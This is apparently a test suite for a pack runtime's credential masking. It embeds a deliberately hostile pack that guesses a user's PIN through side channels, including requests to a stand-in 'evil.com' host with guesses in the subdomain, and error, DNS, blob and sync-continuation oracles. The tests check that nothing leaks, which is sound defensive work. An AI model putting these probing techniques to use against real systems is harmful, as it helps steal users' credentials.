// A pack that guesses a credential and looks at which of its own guesses come back masked: a real pack process, every way back that costs
// no packet or tells nothing that the packet did not, and every guess of a small space.
import assert from "node:assert/strict";
import { z } from "zod";
import { findChoices } from "../../../client/panel/choices.ts";
import { createFetchCache } from "../../../platform/requests/fetch-cache.ts";
import { worldOf } from "../../../platform/runs/run-world.ts";
import type { Credential } from "../../../platform/secrets/credential.ts";
import { auth, onWire, placeholder } from "../../support/broker.ts";
import { readTable } from "../../support/json-cases.ts";
import { failure, formula, runsOfSuite, value } from "../../support/run-pack.ts";

/** Six digits, of which the pack has to guess the last two. Each guess costs a request of the pack. */
const SECRET = "730142";

const SOURCE = `import * as coda from "@codahq/packs-sdk";
export const pack = coda.newPack();
pack.addNetworkDomain("good.com");
pack.addNetworkDomain("other.com");
pack.setUserAuthentication({ type: coda.AuthenticationType.Custom, networkDomain: "good.com", params: [{ name: "pin", description: "PIN" }, { name: "site", description: "Site" }] });
const GUESSES = Array.from({ length: 60 }, (_, index) => String(730100 + index));
const told = async (context: any, request: any): Promise<any> => {
  try {
    const response = await context.fetcher.fetch({ method: "GET", ...request });
    return JSON.stringify(response.headers) + JSON.stringify(response.body);
  } catch (error: any) {
    return error.message + JSON.stringify(error.options ?? null);
  }
};
// A guess itself would be masked in the result.
const disguised = (guesses: string[]) => guesses.slice(0, 5).map((guess) => "no. " + (Number(guess) - 730000)).join(", ") || "nothing";
/** The guesses whose answer is another one than that to the first, but for the guess in it. */
const learn = async (ask: (guess: string) => Promise<string>) => {
  const answers = new Map<string, string>();
  for (const guess of GUESSES) answers.set(guess, (await ask(guess)).split(guess).join("#"));
  return disguised(GUESSES.filter((guess) => answers.get(guess) !== answers.get(GUESSES[0])));
};
const formula = (name: string, execute: any) =>
  pack.addFormula({ name, description: name, parameters: [], resultType: coda.ValueType.String, execute } as any);
const each = (name: string, request: (guess: string, context: any) => any) =>
  formula(name, (_: any, context: any) => learn((guess) => told(context, request(guess, context))));
const atOnce = (name: string, request: (all: string, context: any) => any) =>
  formula(name, async (_: any, context: any) => {
    const text = await told(context, request(GUESSES.join("-"), context));
    return disguised(GUESSES.filter((guess) => !text.includes(guess)));
  });
const mark = (context: any, name = "pin") => "{{" + name + "-" + context.invocationToken + "}}";
each("UndeclaredHost", (guess) => ({ url: "https://g" + guess + ".evil.com/" }));
each("Scheme", (guess) => ({ url: "x" + guess + "://good.com/" }));
each("Port", (guess) => ({ url: "https://g" + guess + ".good.com:81/" }));
each("Method", (guess) => ({ method: guess, url: "https://good.com/" }));
each("HeaderName", (guess) => ({ url: "https://good.com/", headers: { ["x-" + guess]: "a\\nb" } }));
each("NoHeaderName", (guess) => ({ url: "https://good.com/", headers: { [guess + " "]: "a" } }));
each("ParamName", (guess, context) => ({ url: "https://good.com/?a=" + mark(context, guess) }));
each("NoCredentials", (guess, context) => ({ url: "https://g" + guess + ".other.com/", headers: { a: mark(context) } }));
each("BesideAValue", (guess, context) => ({ url: "https://" + mark(context, "site") + ".g" + guess + ".evil.com/" }));
each("NoName", (guess) => ({ url: "https://gone" + guess + ".good.com/" }));
each("BrokenName", (guess) => ({ url: "https://broken" + guess + ".good.com/" }));
each("PrivateName", (guess) => ({ url: "https://private" + guess + ".good.com/" }));
atOnce("OptionsUrl", (all) => ({ url: "https://good.com/404?" + all, cacheTtlSecs: 0 }));
atOnce("OptionsHeaders", (all) => ({ url: "https://good.com/404", headers: { "x-all": all } }));
atOnce("OptionsBody", (all) => ({ method: "POST", url: "https://good.com/404", body: all }));
atOnce("OptionsForm", (all) => ({ method: "POST", url: "https://good.com/404", form: { all } }));
formula("Placeholder", async (_: any, context: any) => {
  const url = "https://good.com/404?pin=" + mark(context);
  const text = await told(context, { url, headers: { pin: mark(context) } });
  return text.split(context.invocationToken).length;
});
formula("Blob", async (_: any, context: any) => {
  const all = GUESSES.join("-");
  const url = await context.temporaryBlobStorage.storeBlob(Buffer.from(all), "text/plain", { downloadFilename: all.slice(0, 240) });
  const back = await context.fetcher.fetch({ method: "GET", url, isBinaryResponse: true });
  return disguised(GUESSES.filter((guess) => !back.body.toString().includes(guess)));
});
formula("BlobOfNoHost", (_: any, context: any) =>
  learn((guess) => context.temporaryBlobStorage.storeUrl("https://g" + guess + ".evil.com/").catch((error: any) => error.message)));
formula("Echo", (_: any, context: any) => told(context, { method: "POST", url: "https://good.com/echo", body: "mine 730142" }));
formula("Shown", async (_: any, context: any) => {
  console.log("I guess 730142");
  await told(context, { url: "https://g730142.evil.com/" });
  throw new Error("it is 730142");
});
const Row = coda.makeObjectSchema({ properties: { id: { type: coda.ValueType.String }, note: { type: coda.ValueType.String, mutable: true } } as any, idProperty: "id", displayProperty: "id" });
const all = { note: GUESSES.join(" ") };
pack.addSyncTable({ name: "Rows", identityName: "Row", description: "Rows.", schema: Row,
  formula: { name: "SyncRows", description: "Rows.", parameters: [coda.makeParameter({ type: coda.ParameterType.String, name: "text", description: "", optional: true, autocomplete: async () => GUESSES })],
    execute: async (_: any, context: any) => {
      const { continuation, previousCompletion } = context.sync;
      if (previousCompletion !== undefined) return { result: [{ id: "asked again" }] };
      if (continuation === undefined) return { result: [{ id: "first" }], continuation: all };
      return { result: [{ id: disguised(GUESSES.filter((guess) => !continuation.note.includes(guess))), ...all }], completion: { incrementalContinuation: all } };
    },
    executeUpdate: async (_: any, updates: any[]) => ({ result: updates.map(({ newValue }) => newValue) }) } } as any);
`;

describe("A pack that guesses a credential", function () {
  this.timeout(60_000);
  const credential: Credential = { kind: "values", values: { pin: SECRET, site: "acme" } };
  const suite = runsOfSuite(SOURCE, () => ({
    account: { scope: "user", credential },
    lookup: async (host) => {
      if (host.startsWith("gone")) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: "ENOTFOUND" });
      if (host.startsWith("broken")) throw Object.assign(new Error(`getaddrinfo EAI_FAIL ${host}`), { code: "EAI_FAIL" });
      return [host.startsWith("private") ? "10.0.0.1" : "93.184.216.34"];
    },
  }));
  const { wire, go } = suite;
  beforeEach(() => {
    wire.respond = ({ path, body }, response) =>
      response.writeHead(path.startsWith("/404") ? 404 : 200).end(path === "/echo" ? `you sent ${body}` : "");
  });

  for (const [name, packets] of readTable("requests/cases/guesses.json", z.array(z.tuple([z.string(), z.int()]))))
    it(`a guess in the pack's own text reveals nothing: ${name}`, async () => {
      const report = await go(formula(name));
      assert.equal(value(report), "nothing");
      assert.equal(wire.requests.length, packets);
      assert.ok(!JSON.stringify(report).includes(SECRET), "a person is shown it");
    });

  it("a guess in the declared domains reveals nothing", async () => {
    const hosts = [["{{pin}}.com"], ["x.{{pin}}.com"], ["{{pin}}.good.com"], ["good.com:{{pin}}"], ["xn--{{pin}}.good.com"]] as const;
    for (const [host] of hosts) {
      const messages: string[] = [];
      for (const guess of [SECRET, "730143", "443"]) {
        const domains = ["good.com", `${guess}.com`, `${guess}.good.com`];
        for (const networkDomain of [["good.com"], domains, [`${guess}.com`, `${guess}.good.com`]]) {
          const { send } = onWire(wire, {
            domains,
            authentication: auth("Custom", { networkDomain }),
            credential: { kind: "values", values: { pin: SECRET } },
          });
          const result = await send({ url: `https://${host.replace("{{pin}}", placeholder("pin"))}/` });
          messages.push("message" in result ? result.message.replaceAll(guess, "#") : "sent");
        }
      }
      assert.deepEqual(messages.slice(0, 3), messages.slice(3, 6), host);
      assert.deepEqual(messages.slice(0, 3), messages.slice(6), host);
    }
  });

  it("a guess in the requested host reveals nothing", async () => {
    const { send } = onWire(wire, {
      domains: ["o"],
      authentication: auth("Custom"),
      credential: { kind: "values", values: { pin: "told-to-none" } },
      lookup: async () => {
        throw new Error("it is told-to-none");
      },
    });
    const result = await send({ url: "https://o/" });
    assert.match("message" in result ? result.message : "", /it is ••••/);
  });

  it("placeholders in the options of an error come back as written", async () => {
    assert.equal(value(await go(formula("Placeholder"))), 3);
    assert.equal(wire.requests[0]?.path, `/404?pin=${SECRET}`);
  });

  it("a secret echoed by the server comes back masked", async () => {
    assert.match(String(value(await go(formula("Echo")))), /you sent mine ••••/);
  });

  it("guesses are masked for the person in console, error, result and requests", async () => {
    const report = await go(formula("Shown"));
    assert.match(failure(report), /it is ••••/);
    assert.match(report.console[0]?.message ?? "", /I guess ••••/);
    assert.match(report.requests[0]?.failureReason ?? "", /g••••\.evil\.com is not in the pack's network domains/);
    assert.ok(!JSON.stringify(report).includes(SECRET));
  });

  it("nothing masked for the person returns to the pack: completion, row, parameter, choice", async () => {
    const first = await go({ kind: "syncTable", name: "Rows" });
    const rows = value(first) as { Id: string; Note?: string }[];
    assert.equal(rows[1]?.Id, "nothing", "the continuation came back as it was");
    assert.ok(rows[1]?.Note?.includes("••••"));
    const again = [
      go({ kind: "syncTable", name: "Rows", previousCompletion: first.sync?.completion }),
      go({
        kind: "update",
        name: "Rows",
        updates: [{ previousValue: rows[1], newValue: { Id: "x", Note: "mine" }, updatedFields: ["Note"] }],
      }),
      go({ kind: "syncTable", name: "Rows" }, [rows[1]?.Note]),
    ];
    for (const report of await Promise.all(again))
      assert.match(failure(report), /invalid-parameter \| The parameters contain •••• in place of a masked credential, so nothing was run/);
    const fields = [{ key: "text", text: String(rows[1]?.Note ?? "") }];
    const question = { type: "choices", field: "text", parameter: "text", search: "", fields } as const;
    await assert.rejects(
      findChoices(
        { kind: "syncTable", name: "Rows", entry: suite.openedPack.entry },
        question,
        "UTC",
        worldOf(suite.openedPack, wire.fetch),
      ),
      /in place of a masked credential/,
    );
  });

  it("a cached answer equals the first one", async () => {
    const fetchCache = createFetchCache();
    for (let times = 0; times < 2; times++) assert.match(String(value(await go(formula("Echo"), [], { fetchCache }))), /mine ••••/);
  });
});
